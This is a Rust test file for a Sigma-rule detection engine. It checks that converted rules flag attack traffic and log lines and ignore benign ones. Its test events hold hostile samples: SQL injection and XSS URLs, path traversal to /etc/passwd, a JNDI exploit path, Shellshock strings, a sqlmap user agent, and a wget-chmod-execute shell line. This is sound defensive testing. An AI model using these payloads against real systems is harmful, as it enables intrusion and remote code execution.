//! Real SigmaHQ rules (tests/fixtures/sigma, see its README) converted and
//! run over events that must and must not match.

use std::path::Path;

use rampart_core::{Detector, Event, EventKind};

use crate::RuleEngine;
use crate::rule::sigma_rule;

fn fixture(name: &str) -> serde_yaml_ng::Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sigma").join(name);
    serde_yaml_ng::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn engine(name: &str) -> RuleEngine {
    let (_, rule) = sigma_rule(&fixture(name), Path::new(name)).unwrap_or_else(|e| panic!("{name}: {e:?}"));
    RuleEngine::new(vec![rule], 1_000)
}

fn fires(engine: &mut RuleEngine, event: &Event) -> bool {
    let mut findings = Vec::new();
    engine.detect(event, &mut findings);
    !findings.is_empty()
}

fn request(method: &str, target: &str, status: u16, agent: &str) -> Event {
    let mut e = Event::new(EventKind::Event, 1_000);
    e.category = vec!["web".into()];
    e.source.ip = Some("203.0.113.9".parse().unwrap());
    e.http_method = Some(method.into());
    e.url_original = Some(target.into());
    e.http_status = Some(status);
    e.user_agent = Some(agent.into());
    e.message = Some(format!("{method} {target} HTTP/1.1"));
    e
}

fn log_line(program: &str, message: &str) -> Event {
    let mut e = Event::new(EventKind::Event, 1_000);
    e.process_name = Some(program.into());
    e.message = Some(message.into());
    e
}

#[test]
fn sqli_rule_fires_on_get_injections_but_not_on_404s_or_plain_pages() {
    let mut sqli = engine("web_sql_injection_in_access_logs.yml");
    assert!(fires(&mut sqli, &request("GET", "/item?id=1%20UNION%20SELECT%20password%20FROM%20users", 200, "curl")));
    assert!(fires(&mut sqli, &request("GET", "/q?x=1 union select 1,2", 200, "curl")), "keywords ignore case");
    assert!(!fires(&mut sqli, &request("GET", "/item?id=1%20UNION%20SELECT%201", 404, "curl")), "the 404 filter");
    assert!(!fires(&mut sqli, &request("POST", "/item?id=1%20UNION%20SELECT%201", 200, "curl")), "GET only");
    assert!(!fires(&mut sqli, &request("GET", "/products?page=2&sort=name", 200, "Mozilla/5.0")));
}

#[test]
fn xss_traversal_jndi_and_source_rules_fire_on_their_attacks_only() {
    let mut xss = engine("web_xss_in_access_logs.yml");
    assert!(fires(&mut xss, &request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, "x")));
    assert!(!fires(&mut xss, &request("GET", "/search?q=scripting+guide", 200, "x")));
    let mut traversal = engine("web_path_traversal_exploitation_attempt.yml");
    assert!(fires(&mut traversal, &request("GET", "/download?file=../../../etc/passwd", 200, "x")));
    assert!(
        !fires(&mut traversal, &request("GET", "/../../../etc/passwd", 200, "x")),
        "cs-uri-query is the query only"
    );
    assert!(!fires(&mut traversal, &request("GET", "/download?file=report.pdf", 200, "x")));
    let mut jndi = engine("web_jndi_exploit.yml");
    assert!(fires(&mut jndi, &request("GET", "/x/Basic/Command/Base64/d2hvYW1p", 200, "x")));
    assert!(!fires(&mut jndi, &request("GET", "/docs/basic-usage", 200, "x")));
    let mut git = engine("web_source_code_enumeration.yml");
    assert!(fires(&mut git, &request("GET", "/.git/config", 404, "x")));
    assert!(!fires(&mut git, &request("GET", "/github-logo.png", 200, "x")));
}

#[test]
fn user_agent_rules_match_scanners_not_browsers_and_ignore_other_events() {
    for file in ["web_susp_useragents.yml", "proxy_ua_hacktool.yml"] {
        let mut rule = engine(file);
        assert!(fires(&mut rule, &request("GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)")), "{file}");
        assert!(!fires(&mut rule, &request("GET", "/", 200, "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")));
        assert!(!fires(&mut rule, &log_line("sshd", "sqlmap/1.7")), "{file}: a web rule reads web events only");
    }
}

#[test]
fn linux_rules_read_their_programs_log_lines() {
    let mut sshd = engine("lnx_sshd_susp_ssh.yml");
    assert!(fires(&mut sshd, &log_line("sshd", "error: Corrupted MAC on input. [preauth]")));
    assert!(!fires(&mut sshd, &log_line("nginx", "Corrupted MAC on input")), "sshd's lines only");
    assert!(!fires(&mut sshd, &log_line("sshd", "Accepted publickey for alice from 192.0.2.4")));
    let mut shellshock = engine("lnx_shellshock.yml");
    assert!(fires(&mut shellshock, &log_line("apache2", "env x='() { :;}; echo vulnerable' bash -c test")));
    assert!(fires(&mut shellshock, &log_line("bash", "HTTP_UA=() { :; }; /bin/id")));
    assert!(!fires(&mut shellshock, &log_line("bash", "f() { echo hi; }")));
    let mut segfault = engine("web_apache_segfault.yml");
    assert!(fires(
        &mut segfault,
        &log_line("apache2", "[core:notice] AH00052: child pid 7 exit signal Segmentation fault (11)")
    ));
    assert!(!fires(&mut segfault, &log_line("nginx", "exit signal Segmentation fault")), "apache's error log only");
    let mut commands = engine("lnx_shell_susp_commands.yml");
    assert!(fires(&mut commands, &log_line("bash", "cd /tmp; wget http://x/a; chmod +x a; ./a")));
    assert!(fires(&mut commands, &log_line("bash", "python -m SimpleHTTPServer 8000")));
    assert!(!fires(&mut commands, &log_line("bash", "ls -la /home")));
}

#[test]
fn what_does_not_convert_is_named() {
    let e = sigma_rule(&fixture("lnx_auditd_binary_padding.yml"), Path::new("x")).unwrap_err();
    assert!(e.reason.contains("auditd"), "{e:?}");
    let doc = |text: &str| serde_yaml_ng::from_str::<serde_yaml_ng::Value>(text).unwrap();
    let base = "title: T\nid: 1\nlogsource: { category: webserver }\n";
    let e = sigma_rule(
        &doc(&format!("{base}detection: {{ s: {{ cs-uri|base64offset|contains: x }}, condition: s }}")),
        Path::new("x"),
    )
    .unwrap_err();
    assert_eq!(e.reason, "selection s: modifier |base64offset");
    let e = sigma_rule(&doc(&format!("{base}detection: {{ s: {{ cs-cookie: x }}, condition: s }}")), Path::new("x"))
        .unwrap_err();
    assert!(e.reason.contains("cs-cookie"), "{e:?}");
    let e =
        sigma_rule(&doc(&format!("{base}detection: {{ s: {{ c-uri|re: '(?<=a)b' }}, condition: s }}")), Path::new("x"))
            .unwrap_err();
    assert!(e.reason.contains("regex"), "a look-behind Rust's regex refuses: {e:?}");
    let e = sigma_rule(
        &doc(&format!("{base}detection: {{ s: {{ c-uri: x }}, condition: s | count() > 5 }}")),
        Path::new("x"),
    )
    .unwrap_err();
    assert!(e.reason.contains("aggregation"), "{e:?}");
    let e = sigma_rule(&doc(&format!("{base}detection: {{ s: {{ c-uri: x }}, condition: t }}")), Path::new("x"))
        .unwrap_err();
    assert!(e.reason.contains("\"t\""), "{e:?}");
}

#[test]
fn a_converted_rule_keeps_the_sigma_metadata() {
    let (converted, rule) = sigma_rule(&fixture("web_sql_injection_in_access_logs.yml"), Path::new("x")).unwrap();
    assert_eq!(rule.id(), "sigma-5513deaf-f49a-46c2-a6c8-3f111b5cb453");
    assert_eq!(rule.card.severity, rampart_core::Severity::High);
    assert_eq!(rule.card.technique.as_deref(), Some("T1190"));
    assert!(rule.card.tags.iter().any(|t| t == "initial-access") && rule.card.tags.iter().any(|t| t == "sigma"));
    assert!(rule.card.description.contains("Saw Win Naung"));
    // The emitted text is an ordinary Rampart rule file.
    let reparsed = crate::parse_rules(&converted.yaml, Path::new("out.yaml")).unwrap();
    assert_eq!(reparsed[0].id(), rule.id());
}

#[test]
fn a_rules_directory_loads_sigma_files_and_skips_what_does_not_convert() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["web_sql_injection_in_access_logs.yml", "lnx_auditd_binary_padding.yml"] {
        let from = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sigma").join(name);
        std::fs::copy(from, dir.path().join(name)).unwrap();
    }
    let rules = crate::load_rules(false, Some(dir.path())).unwrap();
    assert_eq!(
        rules.iter().map(|r| r.id().to_owned()).collect::<Vec<_>>(),
        ["sigma-5513deaf-f49a-46c2-a6c8-3f111b5cb453"]
    );
}

proptest::proptest! {
    // Sigma files are user input: anything converts or says why, never panics.
    #[test]
    fn arbitrary_detection_blocks_convert_or_say_why(
        key in "[a-z|-]{1,20}",
        value in proptest::sample::select(vec!["x", "'*a?b*'", "[a, '*']", "~", "5", "{ a: b }", "[]", "'\\\\*'"]),
        condition in proptest::sample::select(vec!["s", "not s", "1 of s*", "all of them", "s and", "(s", "s | count()"]),
    ) {
        let text = format!("title: T\nid: x\nlogsource: {{ category: webserver }}\ndetection:\n  s: {{ '{key}': {value} }}\n  condition: {condition}\n");
        if let Ok(doc) = serde_yaml_ng::from_str::<serde_yaml_ng::Value>(&text) {
            let _ = sigma_rule(&doc, Path::new("p"));
        }
    }
}
